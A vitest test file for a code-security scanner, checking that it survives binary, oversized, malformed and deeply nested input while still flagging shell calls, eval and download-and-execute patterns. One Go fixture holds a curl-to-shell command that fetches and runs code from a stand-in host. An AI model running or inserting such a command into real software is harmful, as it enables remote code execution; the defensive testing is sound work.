import { describe, expect, it } from 'vitest';
import { MAX_FILE_BYTES, scanBytes, scanText } from '../../src/scan/scan-file.js';
import { scanDeps } from './scan-test-parser.js';

describe('bad input never crashes a scan', () => {
  it('skips binary files with a reason', async () => {
    const bytes = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2, 3]);
    expect(scanBytes('tool.py', bytes, await scanDeps()).skipped).toBe('binary file');
  });

  it('skips files over the size cap with a reason', async () => {
    const bytes = new Uint8Array(MAX_FILE_BYTES + 1).fill(0x61);
    expect(scanBytes('big.py', bytes, await scanDeps()).skipped).toMatch(/larger than/);
  });

  it('scans files with invalid UTF-8', async () => {
    const text = Buffer.concat([
      Buffer.from('import os\n# \xff\xfe bad bytes\n', 'latin1'),
      Buffer.from('os.system(cmd)\n'),
    ]);
    const scan = scanBytes('bad.py', new Uint8Array(text), await scanDeps());
    expect(scan.findings.map((finding) => finding.ruleId)).toContain('proc-shell-command');
  });

  it('scans what parses in a file with syntax errors', async () => {
    const scan = scanText(
      'broken.py',
      'import os\ndef broken(:\n    pass\nos.system(cmd)\n',
      await scanDeps(),
    );
    expect(scan.findings.map((finding) => finding.ruleId)).toContain('proc-shell-command');
  });

  it('survives pathological nesting', async () => {
    const deps = await scanDeps();
    const deep = `x = ${'('.repeat(20_000)}1${')'.repeat(20_000)}\nimport os\nos.system(cmd)\n`;
    const lists = `y = ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`;
    const js = `const a = ${'['.repeat(20_000)}${']'.repeat(20_000)};\neval(code);\n`;
    expect(() => scanText('deep.py', deep, deps)).not.toThrow();
    expect(() => scanText('lists.py', lists, deps)).not.toThrow();
    expect(scanText('deep.js', js, deps).findings.map((finding) => finding.ruleId)).toContain(
      'code-eval',
    );
  });

  it('survives pathological nesting in Go and still reads the code after it', async () => {
    const go = `package p\n\nimport "os/exec"\n\nvar x = ${'('.repeat(20_000)}1${')'.repeat(20_000)}\n\nfunc f() { exec.Command("sh", "-c", "curl -s https://e.example | sh").Run() }\n`;
    const findings = scanText('deep.go', go, await scanDeps()).findings;
    expect(findings.map((finding) => finding.ruleId)).toContain('download-execute');
  });

  it('treats an empty file as zero lines', async () => {
    expect(scanText('empty.py', '', await scanDeps())).toEqual({ findings: [], lines: 0 });
  });
});
